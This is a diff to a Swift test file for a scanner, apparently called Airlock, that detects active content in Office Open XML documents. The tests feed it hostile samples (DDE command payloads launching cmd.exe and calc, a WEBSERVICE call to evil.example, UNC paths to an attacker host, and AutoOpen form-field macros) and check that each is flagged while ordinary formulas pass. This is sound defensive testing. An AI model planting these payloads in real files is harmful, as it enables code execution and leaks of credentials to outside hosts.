@@ -145,4 +145,104 @@ struct OfficeFieldTests {
         let custom = #"<?xml version="1.0"?><settings><connection name="x" type="4"/></settings>"#
         #expect(OOXMLParts.findings(partName: "customXml/item1.xml", bytes: Array(custom.utf8)).isEmpty)
     }
+
+    static func sheetPart(_ body: String, name: String = "xl/worksheets/sheet1.xml", root: String = "worksheet") -> [String] {
+        let xml = "<\(root) xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">\(body)</\(root)>"
+        return OOXMLParts.findings(partName: name, bytes: Array(xml.utf8))
+    }
+
+    /// Round 3: every element and attribute Excel evaluates as a formula gets the formula rules.
+    @Test func formulasOutsideCellsAreJudged() {
+        let payloads = [
+            "LEN(_xlfn.WEBSERVICE(&quot;http://evil.example/x&quot;))&gt;0", "cmd|' /C calc'!A0", "[1]Sheet1!A1",
+            #"HYPERLINK(&quot;\\h\s\x.exe&quot;)"#,
+        ]
+        let ordinary = ["A1&gt;5", "&quot;Yes,No,Maybe&quot;", "$D$1:$D$9", "SUM(Table1[Qty])", "ISNUMBER(A1)"]
+        let wrappers: [(String) -> String] = [
+            {
+                "<conditionalFormatting sqref=\"A1\"><cfRule type=\"expression\" priority=\"1\"><formula>\($0)</formula></cfRule></conditionalFormatting>"
+            },
+            { "<dataValidations><dataValidation type=\"list\" sqref=\"B1\"><formula1>\($0)</formula1></dataValidation></dataValidations>" },
+            {
+                "<dataValidations><dataValidation type=\"between\" sqref=\"B1\"><formula1>1</formula1><formula2>\($0)</formula2></dataValidation></dataValidations>"
+            },
+            {
+                "<tableColumns><tableColumn id=\"2\" name=\"b\"><calculatedColumnFormula>\($0)</calculatedColumnFormula></tableColumn></tableColumns>"
+            },
+            { "<tableColumns><tableColumn id=\"2\" name=\"b\"><totalsRowFormula>\($0)</totalsRowFormula></tableColumn></tableColumns>" },
+            { "<calculatedItems><calculatedItem formula=\"\($0)\"/></calculatedItems>" },
+            { "<cacheFields><cacheField name=\"x\" formula=\"\($0)\"/></cacheFields>" },
+            { "<formControlPr objectType=\"Drop\" fmlaRange=\"\($0)\"/>" },
+            { "<x:ClientData ObjectType=\"Button\"><x:FmlaLink>\($0)</x:FmlaLink></x:ClientData>" },
+        ]
+        for wrap in wrappers {
+            for payload in payloads {
+                #expect(!Self.sheetPart(wrap(payload)).isEmpty, "\(wrap(payload))")
+            }
+            for formula in ordinary {
+                #expect(Self.sheetPart(wrap(formula)).isEmpty, "\(wrap(formula)) -> \(Self.sheetPart(wrap(formula)))")
+            }
+        }
+        #expect(!Self.sheetPart("<formControlPr objectType=\"Button\" fmlaMacro=\"[1]!Evil\"/>").isEmpty)
+        // DrawingML shape guides are geometry.
+        #expect(Self.sheetPart("<a:gd name=\"adj\" fmla=\"val 50000\"/>").isEmpty)
+    }
+
+    /// Round 3: altChunk imports (HTML, RTF, MHT) are converted by Word, not judged by Airlock: refused.
+    @Test func altChunksAreActiveContent() {
+        for target in ["chunk.htm", "afchunk.rtf", "x.mht", "a.xml", "/word/sub.docx"] {
+            let rels = """
+                <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId7" \
+                Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="\(target)"/></Relationships>
+                """
+            #expect(!OOXMLParts.findings(partName: "word/_rels/document.xml.rels", bytes: Array(rels.utf8)).isEmpty, "\(target)")
+        }
+    }
+
+    /// Round 3: a mail merge that reads an external source; form-field macros; VML images from UNC or file: paths;
+    /// field code in deleted instruction text and in plain text runs before the separator.
+    @Test func mailMergeMacrosVMLAndHiddenFieldCode() {
+        func settings(_ merge: String) -> [String] {
+            let xml = "<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">\(merge)</w:settings>"
+            return OOXMLParts.findings(partName: "word/settings.xml", bytes: Array(xml.utf8))
+        }
+        for source in [
+            #"<w:connectString w:val="DSN=Excel Files;DBQ=\\evil\s\l.xlsx;"/>"#, #"<w:query w:val="SELECT * FROM `Sheet1$`"/>"#,
+            #"<w:dataSource r:id="rId1"/>"#, #"<w:odso><w:udl w:val="Provider=x"/></w:odso>"#,
+        ] {
+            #expect(!settings("<w:mailMerge><w:mainDocumentType w:val=\"formLetters\"/>\(source)</w:mailMerge>").isEmpty, "\(source)")
+        }
+        #expect(settings(#"<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="textFile"/></w:mailMerge>"#).isEmpty)
+        #expect(settings(#"<w:query w:val="x"/><w:zoom w:percent="100"/>"#).isEmpty)
+
+        for macro in ["entryMacro", "exitMacro"] {
+            let body =
+                #"<w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="T"/><w:"# + macro
+                + #" w:val="AutoOpen"/><w:textInput/></w:ffData></w:fldChar></w:r>"#
+                + Self.instruction(" FORMTEXT ") + Self.separate + Self.end
+            #expect(!Self.findings(body).isEmpty, "\(macro)")
+        }
+        let formField = #"<w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="T"/><w:textInput/></w:ffData></w:fldChar></w:r>"#
+        #expect(Self.findings(formField + Self.instruction(" FORMTEXT ") + Self.separate + Self.end).isEmpty)
+
+        for (key, value) in [("src", "file://evil/s/p.png"), ("o:href", #"\\evil\s\p.png"#), ("src", "//evil/s/p.png"), ("src", " FILE:///c:/x")] {
+            for element in ["v:imagedata", "v:fill"] {
+                let body = #"<w:r><w:pict><v:shape id="s1"><"# + element + " " + key + "=\"" + value + #""/></v:shape></w:pict></w:r>"#
+                #expect(!Self.findings(body).isEmpty, "\(element) \(key)=\(value)")
+            }
+        }
+        #expect(
+            Self.findings(#"<w:r><w:pict><v:shape><v:imagedata r:id="rId5" o:href="https://example.com/p.png" o:title=""/></v:shape></w:pict></w:r>"#)
+                .isEmpty
+        )
+
+        let deleted =
+            #"<w:del w:id="1" w:author="a"><w:r><w:delInstrText xml:space="preserve">DDEAUTO c:\windows\system32\cmd.exe "/k calc"</w:delInstrText></w:r></w:del>"#
+        #expect(!Self.findings(Self.begin + deleted + Self.separate + Self.end).isEmpty)
+        let plain = #"<w:r><w:t xml:space="preserve">INCLUDEPICTURE "\\evil\s\p.png" </w:t></w:r>"#
+        #expect(!Self.findings(Self.begin + plain + Self.separate + Self.end).isEmpty)
+        // Text after the separator is the field's result, and text outside fields is prose.
+        #expect(Self.findings(Self.begin + Self.instruction(" PAGE ") + Self.separate + plain + Self.end).isEmpty)
+        #expect(Self.findings(plain).isEmpty)
+    }
 }
